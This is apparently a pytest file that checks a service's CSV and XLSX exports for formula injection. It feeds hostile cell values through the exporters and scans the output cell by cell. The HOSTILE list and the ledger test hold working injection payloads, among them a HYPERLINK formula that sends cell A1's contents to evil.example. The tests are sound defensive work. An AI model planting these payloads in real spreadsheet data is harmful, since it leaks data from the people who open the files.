"""Formula injection: no XLSX or CSV the service exports holds a live formula from user data.

Every export is made from hostile values and scanned cell by cell; a static check makes sure
each module that writes spreadsheets goes through ``service.exports``.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from service import audit
from service.batch import sample, state, worker
from service.db import session_scope
from service.documents.registry import ledger_xlsx
from service.exports import is_formula_like, safe_cell
from service.models import Organisation
from service.storage import store_for
from tests.batch.conftest import submit
from tests.conftest import bearer

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+1", "＝2+2", "+3", "-4+4", "@SUM(A1)",
           "\t=5+5", "\r=6+6", " =7+7", "\u3000＝8+8", "＠SUM(B2)", "－9+9", "＋10"]


def live_cells_xlsx(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))  # not read-only: formulas keep data_type "f"
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or is_formula_like(c.value)]


def live_cells_csv(text: str) -> list:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if is_formula_like(cell)]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(value):
    assert is_formula_like(value)
    out = safe_cell(value)
    assert not is_formula_like(out) and out == "'" + value


@pytest.mark.parametrize("value", ["张三", "市财政局预算科党支部", "2025-06-28", "12010007", "", None, 12, -3, 1.5,
                                   "a=b", "中共=党"])
def test_safe_cell_leaves_data_alone(value):
    assert safe_cell(value) == value


def test_a_control_character_never_breaks_an_export():
    """A name typed with a control character (the API fuzzer sent ``'=\x01…``) made openpyxl raise
    IllegalCharacterError, a 500 on every export of that table; the cell keeps the rest."""
    ws = Workbook().active
    ws.append([safe_cell("=a\x01b"), safe_cell("张\x0b三\t")])
    assert [c.value for c in ws[1]] == ["'=ab", "张三\t"]


def test_scanners_can_fail():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1", "ok"])
    buf = io.BytesIO()
    wb.save(buf)
    assert live_cells_xlsx(buf.getvalue()) and live_cells_csv("a,=1+1\n")


def test_register_of_hostile_roster_has_no_live_cell(settings, tmp_path):
    rows = sample.sample_members(len(HOSTILE), seed=9, branches=["区医院党支部", "城关社区党支部"])
    buf = io.StringIO()
    w = csv.DictWriter(buf, list(rows[0]))
    w.writeheader()
    for r, name in zip(rows, HOSTILE):
        w.writerow(dict(r, 姓名=name))
    job_id, _ = submit(settings, buf.getvalue().encode(), "hostile.csv", "party-card", {"outputs": "register"})
    worker.work(settings, job_id)
    st = state.job_status(settings, job_id)
    assert st["state"] == "done", st["errors"]
    register = next(o for o in st["outputs"] if o["kind"] == "register")
    data = store_for(settings.data_dir).read_bytes(register["sha256"])
    assert live_cells_xlsx(data) == []
    names = [r[2] for r in load_workbook(io.BytesIO(data), read_only=True).active.iter_rows(min_row=2, values_only=True)]
    assert len(names) == len(HOSTILE) and all(n.startswith("'") for n in names)  # kept, shown as text
    assert any("HYPERLINK" in n for n in names)


def test_ledger_xlsx_of_hostile_values_has_no_live_cell():
    row = {"branch_name": "=1+1", "category": "+2", "problem": '=HYPERLINK("http://evil.example","x")',
           "measure": "@SUM(A1)", "target": "-3", "leader": "＝4", "owner": "\t=5", "progress": "=6",
           "note": "=7", "due_on": "2026-06-30"}
    data = ledger_xlsx({"organisation": "=HYPERLINK(\"http://evil.example\")", "year": 2025,
                        "as_of": "2026-03-01", "rows": [row, dict(row, branch_name="正常支部")]})
    assert live_cells_xlsx(data) == []


def test_audit_csv_of_hostile_names_has_no_live_cell(app, client, demo):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with session_scope(app.config["DATABASE_URL"]) as s:
        org = s.execute(select(Organisation).where(Organisation.name == "静海区委")).scalar_one()
        s.execute(update(Organisation).where(Organisation.id == org.id).values(name=hostile))
        audit.record(s, None, "organisation_update", "organisation", org.id, {"name": "=1+1"},
                     organisation_id=org.id)
    r = client.get("/api/v1/audit.csv", headers=bearer(demo["tokens"]["admin"]))
    assert r.status_code == 200
    text = r.get_data(as_text=True).lstrip("\ufeff")
    assert "HYPERLINK" in text and live_cells_csv(text) == []


#: modules that write spreadsheets which are not exports of user data
NOT_EXPORTS = {
    "service/batch/sample.py": "writes generated sample rosters (input files; tests use it for hostile ones)",
    "service/demo_records.py": "writes the demo's own input score sheet",
}
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")


def test_every_spreadsheet_writer_goes_through_safe_cell():
    offenders = []
    for path in sorted((ROOT / "service").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel in NOT_EXPORTS or rel == "service/exports.py" or not WRITERS.search(text):
            continue
        if "safe_row" not in text and "safe_cell" not in text:
            offenders.append(rel)
    assert offenders == []
